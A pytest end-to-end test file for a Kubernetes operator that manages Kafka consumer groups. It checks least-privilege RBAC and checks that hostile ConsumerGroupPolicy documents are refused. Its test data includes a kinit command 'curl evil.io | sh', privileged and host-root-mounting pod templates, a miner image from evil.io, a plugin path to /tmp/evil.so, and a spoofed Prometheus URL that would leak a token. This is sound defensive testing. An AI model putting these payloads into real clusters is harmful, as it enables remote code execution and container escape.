"""Least privilege on the real API server (docs/design.md §13.3): the operator runs with exactly
the rights the chart grants (its ServiceAccount's token, the chart's Roles applied), reconciles a
policy with them, cannot read a Secret the chart does not name, and refuses hostile policies with
a reason naming what would allow them; each consumer replica's own account may write its own
Lease and no sibling's. `kubectl auth can-i` answers and a real attempt agrees."""

from __future__ import annotations

import base64
import copy
import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.chart.chart_support import Chart, helm_path
from tests.e2e.operator_support import (
    Kubectl,
    OperatorProcess,
    cgp,
    condition,
    create_namespace,
    settled,
)
from tests.e2e.waiting import wait_for
from tests.fixtures.stack import make_unique_name

pytestmark = [pytest.mark.e2e, pytest.mark.no_time_bound]

AUTH_SECRET = "kafka-auth"
OTHER_SECRET = "payroll"
REGISTRY = "registry.example.com"
BROKER = "127.0.0.1:9092"
PROMETHEUS = "http://prometheus.monitoring.svc:9090"
RBAC_KINDS = ("ServiceAccount", "Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding")

GOOD: dict[str, Any] = {
    "apiVersion": "groupops.dev/v1alpha1",
    "kind": "ConsumerGroupPolicy",
    "metadata": {"name": "good"},
    "spec": {
        "kafka": {"bootstrapServers": BROKER, "authSecretRef": {"name": AUTH_SECRET}},
        "groupId": "orders",
        "topics": ["orders"],
        "lagSource": {"type": "static", "static": {"lags": {"orders": [1, 2, 3, 4]}}},
        "consumers": {"replicas": 2},
    },
}


def hostile(name: str, *, template: dict[str, Any] | None = None, **kafka: Any) -> dict[str, Any]:
    document = copy.deepcopy(GOOD)
    document["metadata"]["name"] = name
    if template is not None:
        document["spec"]["consumers"]["template"] = {"spec": template}
    for key, value in kafka.items():
        document["spec"]["kafka"][key] = value
    return document


def with_lag_source(document: dict[str, Any], lag_source: dict[str, Any]) -> dict[str, Any]:
    document["spec"]["lagSource"] = lag_source
    return document


def container(**fields: Any) -> dict[str, Any]:
    return {"containers": [{"name": "consumer", "image": f"{REGISTRY}/team/consumer:1", **fields}]}


HOSTILE = [
    pytest.param(
        hostile("privileged", template=container(securityContext={"privileged": True})),
        "containers[0].securityContext.privileged",
        "--allow-privileged",
        id="privileged",
    ),
    pytest.param(
        hostile(
            "host-path",
            template={
                **container(volumeMounts=[{"name": "root", "mountPath": "/host"}]),
                "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            },
        ),
        "volumes[0].hostPath",
        "--allow-host-path",
        id="hostPath",
    ),
    pytest.param(
        hostile("host-network", template={**container(), "hostNetwork": True}),
        "spec.hostNetwork",
        "--allow-host-namespaces",
        id="hostNetwork",
    ),
    pytest.param(
        hostile("host-pid", template={**container(), "hostPID": True}),
        "spec.hostPID",
        "--allow-host-namespaces",
        id="hostPID",
    ),
    pytest.param(
        hostile("root", template=container(securityContext={"runAsUser": 0})),
        "containers[0].securityContext.runAsUser",
        "--allow-run-as-root",
        id="run-as-root",
    ),
    pytest.param(
        hostile("caps", template=container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
        "containers[0].securityContext.capabilities.add",
        "--allow-privileged",
        id="added-capability",
    ),
    pytest.param(
        hostile("foreign-image", template={"containers": [{"name": "consumer", "image": "evil.io/miner:1"}]}),
        "containers[0].image",
        "--allowed-image-registries",
        id="foreign-registry",
    ),
    pytest.param(
        hostile("other-account", template={**container(), "serviceAccountName": "default"}),
        "spec.serviceAccountName",
        "serviceAccountName",
        id="another-service-account",
    ),
    pytest.param(
        hostile("plugin", properties={"plugin.library.paths": "/tmp/evil.so"}),
        "spec.kafka.properties.plugin.library.paths",
        "--allow-kafka-property plugin.library.paths",
        id="plugin-library",
    ),
    pytest.param(
        hostile("no-verify", properties={"enable.ssl.certificate.verification": "false"}),
        "spec.kafka.properties.enable.ssl.certificate.verification",
        "--allow-kafka-property",
        id="verification-off",
    ),
    pytest.param(
        hostile("no-hostname", properties={"ssl.endpoint.identification.algorithm": "none"}),
        "spec.kafka.properties.ssl.endpoint.identification.algorithm",
        "--allow-kafka-property",
        id="hostname-verification-off",
    ),
    pytest.param(
        hostile("kinit", properties={"sasl.kerberos.kinit.cmd": "curl evil.io | sh"}),
        "spec.kafka.properties.sasl.kerberos.kinit.cmd",
        "--allow-kafka-property",
        id="kinit-command",
    ),
    pytest.param(
        hostile("operator-file", properties={"ssl.ca.location": "/var/run/secrets/kubernetes.io/token"}),
        "spec.kafka.properties.ssl.ca.location",
        "ssl.ca.pem",
        id="operator-file",
    ),
    pytest.param(
        hostile("foreign-broker", bootstrapServers="kafka.evil.io:9093"),
        "spec.kafka.bootstrapServers",
        "--allowed-bootstrap-servers",
        id="broker-not-allowed",
    ),
    pytest.param(
        with_lag_source(
            hostile("foreign-prometheus"),
            {
                "type": "prometheus",
                "prometheus": {
                    "url": "http://prometheus.monitoring.svc:9090.evil.io",
                    "auth": {"bearerToken": {"secretName": AUTH_SECRET, "key": "sasl.password"}},
                },
            },
        ),
        "spec.lagSource.prometheus.url",
        "--allowed-lag-source-urls",
        id="lag-source-url-not-allowed",
    ),
]


@pytest.fixture(scope="module")
def namespace(kubectl: Kubectl) -> str:
    name = make_unique_name("privilege")
    create_namespace(kubectl, name)
    for secret, data in (
        (AUTH_SECRET, {"sasl.username": "orders", "sasl.password": "s3cret"}),
        (OTHER_SECRET, {"salary": "a lot"}),
    ):
        kubectl.apply(
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": secret},
                "data": {k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
            },
            name,
        )
    return name


@pytest.fixture(scope="module")
def chart_rbac(kubectl: Kubectl, namespace: str) -> str:
    """The chart's RBAC for one namespace (namespaced scope, the auth Secret listed), applied;
    returns the operator's ServiceAccount name. Cluster-scoped names carry the namespace."""
    helm = helm_path()
    if not helm.is_file():
        pytest.fail(f"{helm} is missing: build it with `make kubetools`")
    values = {
        "scope": "namespaced",
        "watchNamespaces": [namespace],
        "kafkaAuthSecrets": [{"namespace": namespace, "name": AUTH_SECRET}],
    }
    docs = Chart(helm).render(values, namespace=namespace, release=namespace)
    rbac = [doc for doc in docs if doc["kind"] in RBAC_KINDS]
    kubectl.run("apply", "-n", namespace, "-f", "-", stdin=yaml.safe_dump_all(rbac))
    (account,) = [doc["metadata"]["name"] for doc in rbac if doc["kind"] == "ServiceAccount"]
    return str(account)


def token_kubeconfig(kubectl: Kubectl, namespace: str, account: str, path: Path) -> str:
    """A kubeconfig that authenticates as `account` with a token the API server issued."""
    token = kubectl.run("create", "token", account, "-n", namespace, "--duration=2h").stdout.strip()
    config = yaml.safe_load(Path(kubectl.kubeconfig).read_text())
    user = config["contexts"][0]["context"]["user"]
    for entry in config["users"]:
        if entry["name"] == user:
            entry["user"] = {"token": token}
    path.write_text(yaml.safe_dump(config))
    return str(path)


@pytest.fixture(scope="module")
def restricted_operator(
    kubectl: Kubectl, namespace: str, chart_rbac: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[OperatorProcess]:
    """The operator with the chart's rights only, and allowlists of image registries and brokers."""
    workdir = tmp_path_factory.mktemp("restricted")
    operator = OperatorProcess(
        kubeconfig=token_kubeconfig(kubectl, namespace, chart_rbac, workdir / "operator.kubeconfig"),
        namespace=namespace,
        log_path=workdir / "operator.log",
        extra=[
            "--allowed-image-registries",
            REGISTRY,
            "--allowed-bootstrap-servers",
            BROKER,
            "--allowed-lag-source-urls",
            PROMETHEUS,
        ],
    )
    operator.start()
    try:
        operator.wait_started()
        yield operator
    finally:
        alive = operator.alive()
        operator.stop()
        print(f"--- restricted operator log ---\n{operator.log_tail(60)}")
        assert alive, "the operator died during the test"


def can_i(kubectl: Kubectl, namespace: str, account: str, *request: str) -> bool:
    result = kubectl.run(
        "auth", "can-i", *request, "-n", namespace, f"--as=system:serviceaccount:{namespace}:{account}",
        check=False,
    )  # fmt: skip
    return result.stdout.strip() == "yes"


def test_the_operator_reconciles_with_the_charts_rights_only(
    kubectl: Kubectl, namespace: str, restricted_operator: OperatorProcess
) -> None:
    kubectl.apply(GOOD, namespace)
    policy = wait_for("the policy to run", settled(kubectl, namespace, "good"), timeout=90)
    assert condition(policy, "Stalled")["status"] == "False"
    pods = kubectl.items("pods", namespace, "groupops.dev/policy=good")
    assert sorted(p["spec"]["serviceAccountName"] for p in pods) == ["good-consumer-0", "good-consumer-1"]
    security = pods[0]["spec"]["securityContext"]
    assert security["runAsNonRoot"] is True and security["fsGroup"] == 10001
    assert security["seccompProfile"] == {"type": "RuntimeDefault"}
    log = restricted_operator.log_tail(400)
    assert not refusals(log), log


LOG_TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3}")
"""A log line's time stamp: its milliseconds are no HTTP status (`,403` failed this test once)."""


def refusals(log: str) -> list[str]:
    """The lines of an operator log that tell of a request the API server refused for want of
    rights: a `Forbidden` reason or a 403 status, read outside the time stamps."""
    return [
        line
        for line in log.splitlines()
        if "Forbidden" in line or re.search(r"\b403\b", LOG_TIME.sub("", line))
    ]


def test_the_operator_reads_no_secret_the_chart_does_not_name(
    kubectl: Kubectl, namespace: str, chart_rbac: str, restricted_operator: OperatorProcess, tmp_path: Path
) -> None:
    assert can_i(kubectl, namespace, chart_rbac, "get", f"secret/{AUTH_SECRET}")
    for request in (("get", f"secret/{OTHER_SECRET}"), ("list", "secrets"), ("watch", "secrets")):
        assert not can_i(kubectl, namespace, chart_rbac, *request), request
    assert not can_i(kubectl, "kube-system", chart_rbac, "get", "secrets")
    as_operator = Kubectl(token_kubeconfig(kubectl, namespace, chart_rbac, tmp_path / "kubeconfig"))
    attempt = as_operator.run("get", "secret", OTHER_SECRET, "-n", namespace, check=False)
    assert attempt.returncode != 0 and "forbidden" in attempt.stderr.lower(), attempt.stderr
    assert as_operator.run("get", "secret", AUTH_SECRET, "-n", namespace).returncode == 0

    document = hostile("reads-payroll")
    document["spec"]["kafka"]["authSecretRef"] = {"name": OTHER_SECRET}
    document["spec"]["groupId"] = "payroll"  # its own group: `good`'s would be a Conflict first
    kubectl.apply(document, namespace)

    def stalled() -> dict[str, Any] | None:
        policy = cgp(kubectl, namespace, "reads-payroll")
        return policy if condition(policy, "Stalled").get("status") == "True" else None

    policy = wait_for("the policy to stall", stalled, timeout=60)
    stall = condition(policy, "Stalled")
    assert stall["reason"] == "AuthSecretForbidden" and "kafkaAuthSecrets" in stall["message"], stall
    assert kubectl.items("pods", namespace, "groupops.dev/policy=reads-payroll") == []


def test_a_replica_may_write_its_own_lease_and_no_siblings(
    kubectl: Kubectl, namespace: str, restricted_operator: OperatorProcess, tmp_path: Path
) -> None:
    kubectl.apply(GOOD, namespace)
    wait_for("the policy to run", settled(kubectl, namespace, "good"), timeout=90)
    own, sibling = "good-orders-0", "good-orders-1"
    account = "good-consumer-0"
    assert can_i(kubectl, namespace, account, "update", f"leases/{own}")
    assert can_i(kubectl, namespace, account, "get", "configmap/good-plan")
    assert can_i(kubectl, namespace, account, "watch", "configmap/good-plan")
    for request in (
        ("update", f"leases/{sibling}"),
        ("create", "leases"),
        ("delete", f"leases/{own}"),
        ("list", "configmaps"),
        ("update", "configmap/good-plan"),
        ("get", f"secret/{AUTH_SECRET}"),
    ):
        assert not can_i(kubectl, namespace, account, *request), request
    as_replica = Kubectl(token_kubeconfig(kubectl, namespace, account, tmp_path / "replica.kubeconfig"))
    assert update_lease(kubectl, as_replica, namespace, own).returncode == 0
    assert as_replica.run("get", "lease", sibling, "-n", namespace, check=False).returncode != 0
    theirs = update_lease(kubectl, as_replica, namespace, sibling)
    assert theirs.returncode != 0 and "forbidden" in theirs.stderr.lower(), theirs.stderr


def update_lease(
    reader: Kubectl, writer: Kubectl, namespace: str, name: str
) -> subprocess.CompletedProcess[str]:
    """What a replica does to its Lease: read it, write it back (an update, the verb it holds).
    `reader` reads (a replica may not even read a sibling's Lease), `writer` writes."""
    lease = reader.get_json("lease", name, namespace)
    assert lease is not None, name
    lease["metadata"].setdefault("annotations", {})["test.groupops.dev/probe"] = "1"
    return writer.run("replace", "-n", namespace, "-f", "-", stdin=json.dumps(lease), check=False)


@pytest.mark.parametrize(("document", "field", "allowed_by"), HOSTILE)
def test_a_hostile_policy_is_refused_with_the_reason(
    kubectl: Kubectl,
    namespace: str,
    restricted_operator: OperatorProcess,
    document: dict[str, Any],
    field: str,
    allowed_by: str,
) -> None:
    name = document["metadata"]["name"]
    kubectl.apply(document, namespace)

    def refused() -> dict[str, Any] | None:
        policy = cgp(kubectl, namespace, name)
        return policy if condition(policy, "Stalled").get("reason") == "Refused" else None

    policy = wait_for(f"{name} to be refused", refused, timeout=60)
    message = condition(policy, "Stalled")["message"]
    assert field in message and allowed_by in message, message
    assert condition(policy, "Ready")["status"] == "False"
    assert kubectl.items("pods", namespace, f"groupops.dev/policy={name}") == [], "no pod was created"
    kubectl.run("delete", "cgp", name, "-n", namespace)


def test_a_huge_policy_is_rejected_by_the_api_server(kubectl: Kubectl, namespace: str) -> None:
    document = hostile("huge")
    document["spec"]["consumers"]["replicas"] = 100_000
    result = kubectl.apply(document, namespace, check=False)
    assert result.returncode != 0 and "spec.consumers.replicas" in result.stderr, result.stderr
